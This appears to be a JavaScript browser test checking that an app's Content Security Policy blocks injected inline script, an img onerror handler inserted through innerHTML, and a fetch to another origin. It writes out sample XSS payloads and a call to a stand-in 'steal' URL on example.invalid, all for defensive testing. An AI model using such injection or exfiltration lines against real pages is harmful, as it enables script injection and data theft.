// Browser security checks (issue 10): under the app's CSP (served by
// scripts/serve.mjs), script injected into the page does not run and the page
// cannot contact another origin. Uses tests/browser/browser.mjs's openApp.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { openApp } from './browser.mjs';

test('CSP blocks injected inline script and requests to other origins', { timeout: 60_000 }, async () => {
  const app = await openApp({ tab: null });
  try {
    const outcome = await app.page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective || e.violatedDirective));
      // what an unescaped field would do if it reached innerHTML or a script element
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = 1';
      document.body.append(s);
      const div = document.createElement('div');
      div.innerHTML = '<img src="x" onerror="window.__pwned2 = 1">';
      document.body.append(div);
      let fetched = 'blocked';
      try { await fetch('http://example.invalid/steal?x=1'); fetched = 'sent'; } catch { /* blocked */ }
      await new Promise((r) => setTimeout(r, 300));
      return { pwned: window.__pwned ?? null, pwned2: window.__pwned2 ?? null, fetched, violations };
    });
    assert.equal(outcome.pwned, null, 'inline script ran');
    assert.equal(outcome.pwned2, null, 'inline event handler ran');
    assert.equal(outcome.fetched, 'blocked');
    assert.ok(outcome.violations.some((d) => d.startsWith('script-src')), `violations: ${outcome.violations}`);
    assert.ok(outcome.violations.includes('connect-src'), `violations: ${outcome.violations}`);
    assert.ok(!app.requests.some((u) => !u.startsWith(app.origin) && !u.startsWith('data:') && !u.startsWith('blob:')),
      `requests left the origin: ${app.requests.filter((u) => !u.startsWith(app.origin))}`);
  } finally {
    await app.close();
  }
});
